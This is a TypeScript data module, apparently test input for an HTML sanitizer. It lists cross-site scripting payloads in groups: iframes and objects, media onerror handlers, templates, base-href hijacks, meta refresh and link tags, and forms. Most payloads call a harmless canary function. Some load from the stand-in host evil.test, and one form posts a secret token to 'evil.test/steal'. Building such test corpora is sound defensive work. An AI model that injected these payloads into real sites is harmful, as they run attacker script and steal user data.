import type { Technique } from './technique.js'

const embeddedDocuments: Technique = {
  name: 'embedded-documents',
  idea: 'a frame or plug-in element brings a document that runs',
  runsRaw: true,
  pages: [
    '<iframe srcdoc="<script>parent.canary(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.canary(1)&lt;/script&gt;" sandbox="allow-scripts allow-same-origin">old</iframe>',
    '<iframe src="javascript:parent.canary(1)"></iframe>',
    '<iframe src="https://evil.test/frame.html" onload=canary(1)></iframe>',
    '<object data="https://evil.test/frame.html">fallback <b>text</b></object>',
    '<object type="text/html" data="javascript:canary(1)"><param name=src value="javascript:canary(1)">fallback</object>',
    '<embed src="https://evil.test/frame.html" type="text/html">',
    '<embed src="javascript:canary(1)">',
    '<frameset onload=canary(1)><frame src="javascript:parent.canary(1)"></frameset>',
    '<applet code="javascript:canary(1)" archive="https://evil.test/a.jar">fallback</applet>',
    '<fencedframe src="https://evil.test/frame.html"></fencedframe><portal src="https://evil.test/frame.html"></portal>',
    '<iframe name="<img src=x onerror=canary(1)>" src="about:blank">text</iframe>',
  ],
}

const mediaElements: Technique = {
  name: 'media-elements',
  idea: 'sound, video and picture elements load and fail on their own',
  runsRaw: true,
  pages: [
    '<video src=x onerror=canary(1)>fallback</video>',
    '<audio src=x onerror=canary(1) autoplay>fallback</audio>',
    '<video><source onerror=canary(1)>fallback</video>',
    '<video poster="javascript:canary(1)" src="javascript:canary(1)">fallback</video>',
    '<video src="https://evil.test/v.mp4" autoplay onloadstart=canary(1)>fallback</video>',
    '<picture><source srcset=x onerror=canary(1)><img src=x onerror=canary(1) alt=p></picture>',
    '<audio><track src="https://evil.test/t.vtt" default onerror=canary(1)>fallback</audio>',
    '<amp-img src="x" onerror=canary(1) on="tap:canary(1)" alt="p"><img src=x onerror=canary(1)></amp-img>',
    '<image src=x onerror=canary(1)>',
    '<input type=image src=x onerror=canary(1)>',
  ],
}

const templates: Technique = {
  name: 'templates-and-shadow-trees',
  idea: 'content that is inert in one tree comes to life in another',
  runsRaw: true,
  pages: [
    '<template><script>canary(1)</script><img src=x onerror=canary(1)></template>',
    '<div><template shadowrootmode=open><img src=x onerror=canary(1)></template>light</div>',
    '<div><template shadowroot=open><script>canary(1)</script></template>light</div>',
    '<template><p>a</template><img src=x onerror=canary(1)></p>',
    '<table><template><tr><td><img src=x onerror=canary(1)></template><tr><th>a<th>b</table>',
    '<svg><template><img src=x onerror=canary(1)></template></svg>',
    '<slot onslotchange=canary(1)>slotted <img src=x onerror=canary(1)></slot>',
    '<x-element onclick=canary(1)><script>canary(1)</script>custom</x-element>',
    '<p is="x-p" onclick=canary(1)>custom paragraph</p>',
  ],
}

const baseHijack: Technique = {
  name: 'base-hijack',
  idea: 'a base element turns harmless relative addresses into attacks',
  runsRaw: true,
  pages: [
    '<head><base href="javascript:canary(1)//"></head><a href="x">x</a><img src="y.png">',
    '<head><base href="data:text/html,<script>canary(1)</script>"></head><a href="#">x</a>',
    '<base href="https://evil.test/"><script src="a.js"></script><p>text</p>',
    '<base href="java\nscript:canary(1)/" target="_top"><a href="0">x</a>',
    '<base target="\n<script>canary(1)</script>"><a href="https://page.test/">x</a>',
    '<base href="https://page.test/\'onmouseover=\'canary(1)"><a href="x">x</a>',
    '<base href="vbscript:"><base href="javascript:"><a href="canary(1)">x</a>',
  ],
}

const metaAndLink: Technique = {
  name: 'meta-and-link',
  idea: 'elements of the head act from within the body: refresh, style sheets, policies, prefetching',
  runsRaw: true,
  pages: [
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<meta http-equiv=refresh content="0; url=javascript:canary(1)">',
    '<META HTTP-EQUIV="Refresh" CONTENT="0;url=data:text/html,<script>canary(1)</script>">',
    '<meta http-equiv="set-cookie" content="a=b"><p>text</p>',
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><p>text</p>',
    '<meta charset="utf-7"><p>+ADw-script+AD4-canary(1)+ADw-/script+AD4-</p>',
    '<link rel=stylesheet href="https://evil.test/c.css"><p>text</p>',
    '<link rel=import href="https://evil.test/frame.html"><link rel=prefetch href="https://evil.test/p"><p>text</p>',
    '<link rel=modulepreload href="https://evil.test/a.js" onload=canary(1)><p>text</p>',
    '<link rel=preload as=script href="https://evil.test/a.js" onload=canary(1) onerror=canary(1)><p>text</p>',
    '<p>text</p><meta itemprop=x content="<img src=x onerror=canary(1)>"><link itemprop=y href="javascript:canary(1)">',
    '<meta name=referrer content=unsafe-url><meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=//evil.test><p>text</p>',
  ],
}

const forms: Technique = {
  name: 'forms',
  idea: 'forms and their controls send data, run script or take the keyboard',
  runsRaw: true,
  pages: [
    '<form action="javascript:canary(1)"><button>go</button></form>',
    '<form action="https://evil.test/steal" id=f><input name=token value=secret></form><button form=f>go</button>',
    '<form><button formaction="javascript:canary(1)">go</button></form>',
    '<form><input type=submit formaction="javascript:canary(1)" value=go></form>',
    '<input onfocus=canary(1) autofocus>',
    '<textarea onfocus=canary(1) autofocus>text</textarea>',
    '<select onfocus=canary(1) autofocus><option>one</option></select>',
    '<isindex action="javascript:canary(1)" prompt="<img src=x onerror=canary(1)>">',
    '<keygen autofocus onfocus=canary(1)>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary(1)>',
    '<button type=button popovertarget=p onclick=canary(1)>b</button><div id=p popover onbeforetoggle=canary(1)>text</div>',
    '<label for=x onclick=canary(1)>label</label><input id=x type=checkbox>',
    '<dialog open onclose=canary(1)><form method=dialog><button autofocus>close</button></form>text</dialog>',
  ],
}

/** Attacks through elements that load, embed or submit. */
export const embeddingTechniques: readonly Technique[] = [embeddedDocuments, mediaElements, templates, baseHijack, metaAndLink, forms]
